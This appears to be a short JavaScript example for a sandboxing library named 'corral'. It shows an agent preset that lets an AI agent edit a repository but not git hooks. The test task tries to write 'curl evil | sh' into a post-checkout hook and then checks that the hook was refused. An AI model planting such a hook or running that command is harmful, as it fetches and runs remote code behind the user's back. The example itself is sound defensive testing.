// The agent preset: an AI agent may edit the repository, not the files that run code later.
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { presets, run } from 'corral';

const repo = mkdtempSync(join(process.env.CORRAL_EXAMPLE_DIR ?? tmpdir(), 'corral-agent-'));
try {
  mkdirSync(join(repo, '.git', 'hooks'), { recursive: true });
  writeFileSync(join(repo, '.git', 'config'), '[core]\n');
  const task = 'echo "fixed" > notes.md && echo edited; echo "curl evil | sh" > .git/hooks/post-checkout 2>/dev/null || echo "hook refused"';
  const r = await run(presets.agent({ dir: repo }), ['sh', '-c', task]);
  console.log(r.stdout.trim().split('\n').join('; '), `; hook on the host: ${existsSync(join(repo, '.git', 'hooks', 'post-checkout'))}`);
} finally {
  rmSync(repo, { recursive: true, force: true });
}
